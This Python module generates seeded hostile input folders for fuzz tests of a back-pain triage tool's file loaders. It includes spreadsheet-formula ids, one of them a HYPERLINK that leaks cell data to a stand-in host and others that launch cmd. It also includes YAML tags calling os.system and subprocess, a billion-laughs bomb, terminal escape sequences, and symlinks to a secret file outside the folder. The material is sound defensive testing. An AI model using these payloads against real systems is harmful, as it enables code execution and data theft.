"""Seeded hostile input folders for the fuzz tests of issue 11, each file with the number of cases it holds.

How many cases (output lines) each input is, by the contract the tests check:

- a ``.json``, ``.yaml`` or ``.yml`` file is one case, whatever it holds (empty, binary,
  a list, a bomb); so is a symbolic link inside the folder that points out of it (it is
  reported, not followed), and so is a file whose name is not UTF-8;
- a JSON Lines file is one case per line that is not blank (lines end at ``\\n``); an
  empty or all-blank file is one case (the error "the file is empty");
- a CSV file is one case per line after the header that has some non-blank cell, even when
  the line is broken (invalid UTF-8, an unbalanced quote, too few or too many cells, an
  oversized cell, duplicate column names): a cell never spans lines in a triage CSV, so a
  stray quote costs its own row only; an empty file, or one whose header line is not text,
  is one case;
- any other file in the folder (``.txt``) is no case and is never read.

Good cases carry ids ``good-<seed>-<n>`` and are also written, alone, to a JSON Lines
baseline so that the tests can check they come out identical when mixed with hostile ones.
"""

from __future__ import annotations

import csv
import io
import json
import os
import random
from dataclasses import dataclass, field
from pathlib import Path
from typing import Any

YES_NO = ("night_pain", "pain_unrelieved_by_rest", "otc_ineffective", "limb_numbness", "foot_drop",
          "saddle_numbness", "bladder_change", "fever", "cancer_history", "unexplained_weight_loss",
          "minor_trauma", "osteoporosis", "long_term_steroids", "claudication", "exercise_flare",
          "known_disc_calcification", "metabolic_condition", "hand_clumsiness", "gait_unsteady")
CHOICES = {"region": ("lumbar", "cervical", "thoracic"), "pain_trend": ("improving", "stable", "worsening"),
           "leg_pain": ("none", "one_leg", "both_legs"), "weakness": ("none", "stable", "progressive"),
           "sex": ("female", "male", "other")}
NUMBERS = {"age": (0, 120), "pain_score": (0, 10), "duration_days": (0, 400), "conservative_care_weeks": (0, 60)}
EXPECTED = ("emergency", "urgent", "soon", "routine", "self_care")

#: Ids a spreadsheet would run as formulas (OWASP "CSV Injection").
FORMULA_IDS = ('=HYPERLINK("http://example.invalid/?leak="&A1,"open")', "+1+cmd|' /C calc'!A0", "-2+3+cmd|' /C calc'!A0",
               "@SUM(1+1)*cmd|' /C calc'!A0", "\t=1+1", "\r=1+1")
#: Ids carrying terminal escape sequences: colour, clear screen, window title (OSC ... BEL), C1 CSI.
ESCAPE_IDS = ("esc-\x1b[31mRED\x1b[0m", "esc-\x1b[2J\x1b[H", "esc-\x1b]0;PWNED-TITLE\x07", "esc-\u009b31mC1")


@dataclass
class Unit:
    """One file (or link) of the input folder: where it is, what it holds, and how many cases that is."""

    rel: bytes  # path inside the input folder (bytes: a name need not be UTF-8)
    data: bytes | None  # None for a symbolic link
    cases: int
    kind: str
    good: list[dict[str, Any]] = field(default_factory=list)  # the good cases inside, by id
    link_to: Path | None = None
    formula_ids: tuple[str, ...] = ()  # the formula-like ids its cases carry (all of them)

    @property
    def ascii_name(self) -> bool:
        """Whether the name is plain ASCII (so that output sources can be matched to it exactly)."""
        return self.rel.isascii()

    @property
    def suffix(self) -> str:
        """The file's extension, lower case."""
        return Path(self.rel.decode("ascii", "replace")).suffix.lower()


@dataclass
class Corpus:
    """An input folder's units, the marker that a YAML tag would create, and the secret outside the folder."""

    units: list[Unit]
    marker: Path
    secret: str
    ignored: str

    @property
    def total(self) -> int:
        """Cases in the whole folder."""
        return sum(u.cases for u in self.units)

    @property
    def good_cases(self) -> list[dict[str, Any]]:
        """Every good case, in folder order."""
        return [case for unit in self.units for case in unit.good]


def csv_case_count(data: bytes) -> int:
    """Cases of a CSV file by the contract above."""
    lines = data.split(b"\n")
    if not data.strip() or b"\x00" in lines[0]:
        return 1
    try:
        lines[0].decode("utf-8")
    except UnicodeDecodeError:
        return 1
    return sum(1 for line in lines[1:] if line.replace(b",", b"").strip())


def jsonl_case_count(data: bytes) -> int:
    """Cases of a JSON Lines file by the contract above."""
    count = sum(1 for line in data.split(b"\n") if line.strip())
    return count or 1


class Generator:
    """Builds one seeded input folder (``build``) mixing good cases with every hostile kind of issue 11."""

    def __init__(self, seed: int, secret: str, marker: Path):
        self.rng = random.Random(seed)
        self.seed = seed
        self.secret = secret
        self.marker = marker
        self.outside = Path("outside")
        self._n = 0

    def _id(self, prefix: str) -> str:
        self._n += 1
        return f"{prefix}-{self.seed}-{self._n}"

    # --- good cases ---------------------------------------------------------------------

    def good_case(self) -> dict[str, Any]:
        """A valid case with a random subset of answers (some left unknown)."""
        rng = self.rng
        case: dict[str, Any] = {"id": self._id("good")}
        for name in rng.sample(YES_NO, rng.randint(0, len(YES_NO))):
            case[name] = rng.random() < 0.3
        for name, values in CHOICES.items():
            if rng.random() < 0.8:
                case[name] = rng.choice(values)
        for name, (low, high) in NUMBERS.items():
            if rng.random() < 0.8:
                case[name] = rng.randint(low, high)
        if rng.random() < 0.3:
            case["expected_urgency"] = rng.choice(EXPECTED)
        if rng.random() < 0.2:
            case["description"] = "note, with a comma; and \"quotes\" " + "é" * rng.randint(0, 3)
        return case

    @staticmethod
    def to_yaml(case: dict[str, Any]) -> bytes:
        """A case as YAML text (JSON is YAML; quoting keeps every value's type)."""
        return "".join(f"{json.dumps(k)}: {json.dumps(v, ensure_ascii=False)}\n" for k, v in case.items()).encode()

    @staticmethod
    def csv_cell(value: Any) -> str:
        """A case value as a CSV cell (yes/no for booleans, empty for unknown)."""
        if value is None:
            return ""
        if isinstance(value, bool):
            return "yes" if value else "no"
        return str(value)

    def csv_text(self, header: list[str], rows: list[list[str]]) -> bytes:
        """CSV text of a header and rows, lines ending in \\n."""
        buffer = io.StringIO()
        writer = csv.writer(buffer, lineterminator="\n")
        writer.writerow(header)
        writer.writerows(rows)
        return buffer.getvalue().encode()

    def good_rows(self, count: int) -> tuple[list[str], list[dict[str, Any]]]:
        """``count`` good cases and the header that holds all their fields."""
        cases = [self.good_case() for _ in range(count)]
        for case in cases:
            case.pop("description", None)  # keep CSV good rows simple text
        header = ["id", *sorted({k for c in cases for k in c} - {"id"})]
        return header, cases

    # --- the folder -----------------------------------------------------------------------

    def build(self, folder: Path, outside: Path) -> Corpus:
        """Write the input folder (and the secret file outside it); return its units."""
        units: list[Unit] = []
        rng = self.rng
        self.outside = outside
        kinds = [getattr(self, name) for name in sorted(dir(self)) if name.startswith("kind_")]
        for _ in range(2):
            rng.shuffle(kinds)
            for make in kinds:
                units += make()
        for index, unit in enumerate(units):  # spread over sub-folders; the index keeps names unique
            sub = rng.choice([b"", b"a/", b"a/b/", b"c/"])
            unit.rel = sub + f"{index:03d}-".encode() + unit.rel
        outside.mkdir(parents=True, exist_ok=True)
        secret_file = outside / "secret.txt"
        secret_file.write_text(f"{self.secret}: root:x:0:0:root:/root:/bin/bash\nsecond line\n")
        (outside / "secret.yaml").write_text(f"{self.secret}: 1\n")
        (outside / "secret.csv").write_text(f"{self.secret},age\n1,2\n")
        ignored = f"IGNORED-{self.seed}"
        for unit in units:
            path = folder / os.fsdecode(unit.rel)
            path.parent.mkdir(parents=True, exist_ok=True)
            if unit.link_to is not None:
                path.symlink_to(unit.link_to)
            else:
                assert unit.data is not None
                path.write_bytes(unit.data)
        (folder / "notes.txt").write_text(f"{ignored}\n{{\"id\": \"{ignored}\"}}\n")
        return Corpus(units, self.marker, self.secret, ignored)

    # --- good files ----------------------------------------------------------------------------

    def kind_good_files(self) -> list[Unit]:
        """Good cases as .json, .yaml and .yml files, one with a byte-order mark and CRLF lines."""
        units = []
        for suffix in (".json", ".yaml", ".yml", ".yaml"):
            case = self.good_case()
            data = json.dumps(case, ensure_ascii=False).encode() if suffix == ".json" else self.to_yaml(case)
            units.append(Unit(f"good{suffix}".encode(), data, 1, "good-file", [case]))
        case = self.good_case()
        units.append(Unit(b"good-bom-crlf.yaml", b"\xef\xbb\xbf" + self.to_yaml(case).replace(b"\n", b"\r\n"), 1,
                          "good-file", [case]))
        return units

    def kind_good_lines(self) -> list[Unit]:
        """A JSON Lines file of good cases, with blank lines and CRLF endings."""
        cases = [self.good_case() for _ in range(self.rng.randint(5, 40))]
        lines = [json.dumps(c, ensure_ascii=False).encode() for c in cases]
        data = b"\r\n".join(lines[:3]) + b"\r\n\n   \n" + b"\n".join(lines[3:]) + b"\n"
        return [Unit(b"good.jsonl", data, len(cases), "good-jsonl", cases)]

    def kind_good_csv(self) -> list[Unit]:
        """A CSV file of good cases (with a byte-order mark)."""
        header, cases = self.good_rows(self.rng.randint(5, 40))
        data = b"\xef\xbb\xbf" + self.csv_text(header, [[self.csv_cell(c.get(h)) for h in header] for c in cases])
        return [Unit(b"good.csv", data, len(cases), "good-csv", cases)]

    # --- unpaired surrogates -----------------------------------------------------------------------

    def kind_surrogates(self) -> list[Unit]:
        """Unpaired surrogates (JSON escapes) in keys, values and ids, in JSON, YAML and JSON Lines."""
        rng, units = self.rng, []
        lone = rng.choice(["\\ud800", "\\udfff", "\\udc80", "\\ud83d"])
        hid = self._id("h")
        units.append(Unit(b"sur-key.json", f'{{"id": "{hid}", "{lone}": 1}}'.encode(), 1, "surrogate-key-json"))
        units.append(Unit(b"sur-key.yaml", f'id: {hid}\n"{lone}": 1\n'.encode(), 1, "surrogate-key-yaml"))
        units.append(Unit(b"sur-value.json", f'{{"id": "{hid}", "region": "{lone}"}}'.encode(), 1,
                          "surrogate-value-json"))
        units.append(Unit(b"sur-value.yaml", f'id: {hid}\nsex: "x{lone}"\n'.encode(), 1, "surrogate-value-yaml"))
        units.append(Unit(b"sur-nested.json", f'{{"id": "{hid}", "age": {{"{lone}": [1]}}}}'.encode(), 1,
                          "surrogate-nested-json"))
        good = [self.good_case() for _ in range(rng.randint(2, 6))]
        lines = [json.dumps(c).encode() for c in good]
        bad = [f'{{"id": "{self._id("h")}", "{lone}": 1}}'.encode(), f'{{"id": "x{lone}"}}'.encode(),
               f'{{"{lone}{lone}": "{lone}"}}'.encode()]
        mixed = lines[:1] + bad + lines[1:]
        units.append(Unit(b"sur.jsonl", b"\n".join(mixed) + b"\n", len(mixed), "surrogate-jsonl", good))
        return units

    # --- file names, links, empty and binary files -------------------------------------------------

    def kind_names_and_links(self) -> list[Unit]:
        """A non-UTF-8 file name, symbolic links out of the folder, empty and binary files, an ignored .txt."""
        rng, units = self.rng, []
        bad_name = rng.choice([b"caf\xe9", b"bad\xff\xfe", b"\x80\x81"])
        units.append(Unit(bad_name + b".yaml", self.to_yaml(self.good_case()), 1, "non-utf8-name"))
        units.append(Unit(bad_name + b".jsonl", json.dumps(self.good_case()).encode() + b"\n", 1, "non-utf8-name"))
        links = ((b"link.yaml", "secret.yaml"), (b"link.jsonl", "secret.txt"), (b"link.csv", "secret.csv"),
                 (b"link.json", "secret.txt"))
        for name, target in links:
            units.append(Unit(name, None, 1, "symlink-out", link_to=self.outside / target))
        for suffix in (".json", ".yaml", ".jsonl", ".csv"):
            units.append(Unit(f"empty{suffix}".encode(), b"", 1, "empty"))
            junk = b"\x00" + bytes(rng.randrange(256) for _ in range(rng.randint(1, 3000)))
            count = jsonl_case_count(junk) if suffix == ".jsonl" else 1
            units.append(Unit(f"binary{suffix}".encode(), junk, count, "binary"))
        units.append(Unit(b"blank.jsonl", b"\n  \n\r\n", 1, "empty"))
        units.append(Unit(b"latin1.json", b'{"id": "caf\xe9", "age": 30}', 1, "invalid-utf8-file"))
        return units

    # --- CSV ---------------------------------------------------------------------------------------

    def _csv_with(self, kind: str, name: bytes, broken: list[bytes]) -> Unit:
        """A CSV file of good rows with ``broken`` lines spliced in at random places."""
        header, good = self.good_rows(self.rng.randint(3, 25))
        lines = [",".join(self.csv_cell(c.get(h)) for h in header).encode() for c in good]
        for line in broken:
            lines.insert(self.rng.randint(0, len(lines)), line)
        data = self.csv_text(header, []) + b"\n".join(lines) + b"\n"
        return Unit(name, data, csv_case_count(data), kind, good)

    def kind_csv_broken(self) -> list[Unit]:
        """CSV with invalid UTF-8 bytes, unbalanced quotes, short and long rows and oversized cells among good rows."""
        rng = self.rng
        hid = self._id("h")
        units = [
            self._csv_with("csv-invalid-utf8", b"bytes.csv", [f"{hid},3".encode() + b"\xff\xfe" + b",lumbar",
                                                              b"\xc3\x28,\xa0\xa1"]),
            self._csv_with("csv-unbalanced-quote", b"quote.csv", [f'{hid},"lumbar'.encode()]),
            self._csv_with("csv-short-long", b"short.csv", [f"{hid}".encode(), f"{hid},1,2,3,4,5,6,7,8,9,10,11,12,"
                                                            "13,14,15,16,17,18,19,20,21,22,23,24,25,26,27,28".encode()]),
            self._csv_with("csv-oversized-cell", b"big-cell.csv",
                           [f"{hid},".encode() + b"x" * rng.randint(140_000, 300_000)]),
        ]
        header, cases = self.good_rows(rng.randint(2, 10))
        duplicated = [header[0], header[1] if len(header) > 1 else "age", *header[1:]]
        rows = [[self.csv_cell(c.get(h)) for h in duplicated] for c in cases]
        data = self.csv_text(duplicated, rows)
        units.append(Unit(b"dup-columns.csv", data, csv_case_count(data), "csv-duplicate-columns"))
        many = [f"unknown_{i}" for i in range(rng.randint(2000, 4000))]
        data = self.csv_text(["id", *many], [[self._id("h"), *("1" for _ in many)] for _ in range(2)])
        units.append(Unit(b"many-columns.csv", data, 2, "csv-many-unknown-columns"))
        return units

    # --- big, deep, many -----------------------------------------------------------------------------

    def kind_sizes(self) -> list[Unit]:
        """Huge values, very many unknown fields, deep nesting and numbers with thousands of digits."""
        rng, units = self.rng, []
        hid = self._id("h")
        size = rng.randint(500_000, 2_000_000)
        units.append(Unit(b"huge-value.json", json.dumps({"id": hid, "region": "x" * size}).encode(), 1, "huge-value"))
        units.append(Unit(b"huge-value.yaml", f"id: {hid}\nsex: {'y' * size}\n".encode(), 1, "huge-value"))
        many = {"id": hid, **{f"field_{i}": i for i in range(rng.randint(2000, 6000))}}
        units.append(Unit(b"many-fields.json", json.dumps(many).encode(), 1, "many-unknown-fields"))
        depth = rng.randint(2000, 60_000)
        units.append(Unit(b"deep.json", f'{{"id": "{hid}", "description": {"[" * depth}{"]" * depth}}}'.encode(), 1,
                          "deep-nesting"))
        units.append(Unit(b"deep.yaml", f"id: {hid}\ndescription: {'[' * depth}{']' * depth}\n".encode(), 1,
                          "deep-nesting"))
        units.append(Unit(b"deep.jsonl", (json.dumps(self.good_case()) + "\n" + '{"id": "x", "age": ' + "[" * depth
                                          + "]" * depth + "}\n").encode(), 2, "deep-nesting"))
        digits = "9" * rng.randint(4400, 20_000)
        units.append(Unit(b"digits.json", f'{{"id": "{hid}", "age": {digits}}}'.encode(), 1, "huge-number"))
        units.append(Unit(b"digits.yaml", f"id: {hid}\nage: {digits}\n".encode(), 1, "huge-number"))
        units.append(Unit(b"digits.jsonl", f'{{"id": "{hid}", "pain_score": {digits}}}\n'.encode(), 1, "huge-number"))
        units.append(Unit(b"float.json", f'{{"id": "{hid}", "age": 1e999, "pain_score": NaN}}'.encode(), 1,
                          "huge-number"))
        return units

    # --- YAML tags, aliases, bombs; malformed documents ----------------------------------------------

    def kind_yaml(self) -> list[Unit]:
        """YAML tags that would run code or build objects, aliases, a billion-laughs bomb, duplicate keys."""
        hid, marker = self._id("h"), self.marker
        bomb = ['a: &a ["lol","lol","lol","lol","lol","lol","lol","lol","lol"]']
        for prev, name in zip("abcdefgh", "bcdefghi", strict=True):
            bomb.append(f"{name}: &{name} [{', '.join(['*' + prev] * 9)}]")
        texts = {
            b"tag-apply.yaml": f'!!python/object/apply:os.system ["touch {marker}"]\n',
            b"tag-new.yaml": f'id: {hid}\nage: !!python/object/new:subprocess.check_output [["touch", "{marker}"]]\n',
            b"tag-name.yaml": f"id: {hid}\nage: !!python/name:os.system\n",
            b"tag-custom.yaml": f"id: {hid}\nage: !custom 3\n",
            b"tag-binary.yaml": f"id: {hid}\nregion: !!binary bHVtYmFy\n",
            b"tag-set.yaml": f"id: {hid}\nexpected_rules: !!set {{a, b}}\n",
            b"alias.yaml": f"id: &name {hid}\ndescription: *name\nregion: lumbar\n",
            b"bomb.yaml": f"id: {hid}\n" + "\n".join("x" + line for line in bomb) + "\nexpected_rules: *i\n",
            b"bomb2.yaml": "\n".join(bomb) + "\n",
            b"dup.yaml": f"id: {hid}\nage: 30\nage: 31\n",
            b"merge.yaml": f"base: &b {{age: 30}}\n<<: *b\nid: {hid}\n",
            b"not-mapping.yaml": "- 1\n- 2\n",
            b"scalar.yaml": "just words\n",
            b"tab.yaml": f"id: {hid}\n\tage: 3\n",
            b"wrong-types.yaml": f"id: {hid}\nage: forty\nfever: maybe\npain_score: 11\nregion: lumbr\nagee: 3\n",
        }
        units = [Unit(name, text.encode(), 1, "yaml") for name, text in texts.items()]
        units.append(Unit(b"dup.json", f'{{"id": "{hid}", "age": 1, "age": 2}}'.encode(), 1, "json"))
        units.append(Unit(b"list.json", b"[1, 2, 3]", 1, "json"))
        units.append(Unit(b"trunc.json", f'{{"id": "{hid}", "age": 3'.encode(), 1, "json"))
        units.append(Unit(b"null.json", b"null", 1, "json"))
        return units

    # --- hostile ids ----------------------------------------------------------------------------------

    def kind_hostile_ids(self) -> list[Unit]:
        """Terminal escape sequences and spreadsheet formulas as case ids, in every format."""
        rng, units = self.rng, []
        for number, case_id in enumerate(ESCAPE_IDS):
            units.append(Unit(f"esc-{number}.json".encode(), json.dumps({"id": case_id, "age": 30}).encode(), 1,
                              "escape-id"))
        units.append(Unit(b"esc-dq.yaml", b'id: "esc-\\e[31mRED\\e]0;TITLE\\a"\nage: 30\n', 1, "escape-id"))
        units.append(Unit(b"esc-raw.yaml", b"id: esc-\x1b[31mRAW\nage: 30\n", 1, "escape-id"))
        lines = [json.dumps({"id": case_id, "agee": 1}).encode() for case_id in ESCAPE_IDS]
        units.append(Unit(b"esc.jsonl", b"\n".join(lines) + b"\n", len(lines), "escape-id"))
        data = ("id,age\n" + "".join(f"{c.replace(chr(13), '')},30\n" for c in ESCAPE_IDS)).encode()
        units.append(Unit(b"esc.csv", data, csv_case_count(data), "escape-id"))
        for number, case_id in enumerate(FORMULA_IDS):
            suffix = rng.choice([".json", ".yaml"])
            case = {"id": case_id, "age": 30}
            data = json.dumps(case).encode() if suffix == ".json" else self.to_yaml(case)
            units.append(Unit(f"formula-{number}{suffix}".encode(), data, 1, "formula-id", formula_ids=(case_id,)))
            bad = json.dumps({"id": case_id, "pain_score": 99}).encode()
            units.append(Unit(f"formula-bad-{number}.json".encode(), bad, 1, "formula-id", formula_ids=(case_id,)))
        plain = tuple(c for c in FORMULA_IDS if c == c.strip())  # CSV and JSON Lines: no leading tab or CR
        lines = [json.dumps({"id": c, "age": rng.choice([30, 300])}).encode() for c in plain]
        units.append(Unit(b"formula.jsonl", b"\n".join(lines) + b"\n", len(lines), "formula-id", formula_ids=plain))
        data = self.csv_text(["id", "age"], [[c, rng.choice(["30", "300"])] for c in plain])
        units.append(Unit(b"formula.csv", data, csv_case_count(data), "formula-id", formula_ids=plain))
        return units
